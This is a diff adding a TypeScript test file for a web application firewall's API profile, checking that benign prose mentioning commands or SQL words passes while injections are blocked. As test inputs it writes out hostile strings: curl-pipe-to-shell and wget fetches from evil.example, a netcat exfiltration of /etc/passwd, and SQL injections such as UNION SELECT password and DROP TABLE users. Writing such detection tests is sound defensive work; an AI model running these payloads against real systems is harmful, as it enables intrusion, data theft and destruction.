@@ -1,0 +1,138 @@
+/**
+ * Session 4 false-positive classes of the API profile's prose handling (src/waf/profile/view.ts families `c` and
+ * `q`), through the real `waf` policy and CRS v4.28.0: each clean class passes the API profile (CRS blocks it),
+ * and the equivalent real attack, in the same place, is still blocked.
+ */
+import assert from 'node:assert/strict';
+import { join } from 'node:path';
+import { describe, test } from 'node:test';
+import { MARKDOWN_TEXT_SUFFIX } from '../../waf/profile/expand.ts';
+import { markdownCodeText, proseQuotesInert, proseWaivers } from '../../waf/profile/view.ts';
+import { fakeDeps, fakeRequestContext, instantiate, runRequest } from '../testing.ts';
+import { policy } from './policy.ts';
+
+const CRS = join(import.meta.dirname, '../../../../shared/crs/v4.28.0');
+const rules = { setup: join(CRS, 'crs-setup.conf.example'), include: [join(CRS, 'rules')] };
+const api = { rules };
+const plain = { rules, profile: 'crs' };
+const ua = { 'user-agent': 'curl/8.5.0', accept: 'application/json' };
+
+async function run(config: unknown, doc: unknown) {
+  const body = JSON.stringify(doc);
+  const deps = fakeDeps('waf@route:test');
+  const ctx = fakeRequestContext({
+    method: 'POST',
+    path: '/api/v4/projects/1/notes',
+    headers: { ...ua, 'content-type': 'application/json', 'content-length': String(Buffer.byteLength(body)) },
+    body: Buffer.from(body),
+  });
+  const { error } = await runRequest(instantiate(policy, config, deps), ctx);
+  return { error, events: JSON.stringify(deps.events) };
+}
+
+describe('waf API profile: shell commands in markdown code spans (family c)', () => {
+  test('prose citing a simple command in backticks passes; CRS blocks it', async () => {
+    for (const body of [
+      'I tried `ping api.example.com` and it times out from our office network.',
+      "Could you run `ping staging.example.net` from the runner? I suspect it can't resolve it.",
+      'chore: remove `rm -rf dist` from prepublish, tsc cleans it',
+      'nit: can we use `printf` instead of `echo -e` here? `echo -e` is not portable.',
+      'Bumps the base image to Debian 13: `apt-get` sources moved to deb822 format, so the Dockerfile changes.',
+    ]) {
+      assert.equal((await run(plain, { body })).error?.reason, 'waf:rce', body);
+      assert.equal((await run(api, { body })).error, undefined, body);
+    }
+  });
+
+  test('the same sentences with a real command injection are blocked', async () => {
+    for (const body of [
+      // Metacharacters inside the span: not markdown, every rule applies.
+      'I tried `curl -s https://evil.example/x.sh | sh` and it times out from our office.',
+      'I tried `ping $(whoami).evil.example` and it times out from our office network.',
+      // A probe whose output or duration is the point keeps the rules, span or not.
+      'Hi team, `whoami` thanks a lot for the quick help today',
+      'When I run `sleep 20` on the build host, the job fails with exit code 1.',
+      // A separator outside the spans is still seen (in the extra argument without the span delimiters).
+      'I tried `ping api.example.com` and then; wget evil.example/x -O /tmp/x as you said',
+      // Backticks glued to a word are a substitution, not markdown.
+      'The branch feature/`curl evil.example` does not build on the runner today.',
+      // A file path in the span is still a file path.
+      'Please run `cat /etc/passwd` on the box and paste the output here.',
+    ]) {
+      assert.equal((await run(api, { body })).error?.reason, 'waf:rce', body);
+    }
+  });
+
+  test('markdownCodeText: opening delimiters become spaces only when every backtick delimits a plain command', () => {
+    assert.equal(
+      markdownCodeText('I tried `ping api.example.com` and it times out.'),
+      'I tried  ping api.example.com` and it times out.',
+    );
+    assert.equal(markdownCodeText('(`npm ci`) first'), '( npm ci`) first');
+    assert.equal(markdownCodeText('When I run `DEPLOY_ENV` here'), 'When I run  DEPLOY_ENV` here');
+    assert.equal(markdownCodeText('no code here at all'), null);
+    assert.equal(markdownCodeText('Hi `cat /etc/passwd | nc evil 1` there'), null);
+    assert.equal(markdownCodeText('Hi `echo $HOME` there'), null);
+    assert.equal(markdownCodeText('Hi `whoami` there'), null);
+    assert.equal(markdownCodeText('Hi `/usr/bin/id -u` there'), null);
+    assert.equal(markdownCodeText('x`id` there'), null);
+    assert.equal(markdownCodeText('one ` lone backtick `ls` here'), null);
+    assert.equal(markdownCodeText('Hi ` ` there'), null);
+  });
+
+  test('the extra argument carries the text without opening span delimiters', async () => {
+    const r = await run(
+      { ...api, inbound_threshold: 100 },
+      { body: 'I tried `ping api.example.com`, then; wget evil.example/x as you said' },
+    );
+    assert.ok(r.events.includes(`json.body${MARKDOWN_TEXT_SUFFIX}`), r.events);
+  });
+});
+
+describe('waf API profile: SQL keywords in prose, quoted or not (family q)', () => {
+  test('prose with SQL words and prose quotations passes; CRS blocks it', async () => {
+    for (const body of [
+      "Having fun with Rust & Go; 'or' is my favourite keyword.",
+      "Hi, the select committee report link on your site returns a 404 — can you fix it?\n\nHello! Your 'Having trouble?' link goes to a blank page.",
+      'Select the default branch when the ref is empty',
+    ]) {
+      assert.equal((await run(plain, { body })).error?.reason, 'waf:sqli', body);
+      assert.equal((await run(api, { body })).error, undefined, body);
+    }
+  });
+
+  test('the same sentences with a real SQL injection are blocked', async () => {
+    for (const body of [
+      "Having fun with Rust & Go; 'or 1 or' is my favourite keyword.",
+      "Having fun with Rust & Go; 'or' 1 is my favourite keyword.",
+      "Having fun with Rust & Go' or '1'='1 is my favourite keyword.",
+      "Hi, the select committee report link on your site returns a 404' UNION SELECT password FROM users--",
+      "Hello there it's me'; DROP TABLE users; -- thanks a lot",
+      'Select the default branch when the ref is empty and sleep(5) passes',
+      "Hi friend 'union select password from users where name like' there thanks a lot",
+    ]) {
+      assert.equal((await run(api, { body })).error?.reason, 'waf:sqli', body);
+    }
+  });
+
+  test('proseQuotesInert: quotations and apostrophes in sentences, not break-outs', () => {
+    assert.equal(proseQuotesInert("Having fun with Rust & Go; 'or' is my favourite keyword."), true);
+    assert.equal(proseQuotesInert('The "Select all" checkbox does nothing, it\'s broken.'), true);
+    assert.equal(proseQuotesInert("Zoë D'Angelo asked about 'Having trouble?' links"), true);
+    assert.equal(proseQuotesInert("Hi 'or 1 or' there friend"), false);
+    assert.equal(proseQuotesInert("Hi 'or' 1 there friend"), false);
+    assert.equal(proseQuotesInert("Hi there' or 'a' like 'a"), false);
+    assert.equal(proseQuotesInert("the users' data is gone"), false);
+    assert.equal(proseQuotesInert('Hi there sleep(5) friend'), false);
+    assert.equal(proseQuotesInert('1 or 1 is true'), false);
+    assert.equal(proseQuotesInert('select the name from the list please'), false);
+    assert.equal(proseQuotesInert('id; drop table users'), false);
+  });
+
+  test('families c and q need four words, in JSON and query strings alike', () => {
+    assert.equal(proseWaivers("use 'or' here"), '');
+    assert.equal(proseWaivers("use 'or' here", 2).includes('q'), false);
+    assert.equal(proseWaivers("use 'or' here now please", 2).includes('q'), true);
+    assert.equal(proseWaivers('try `ping` it', 2).includes('c'), false);
+  });
+});
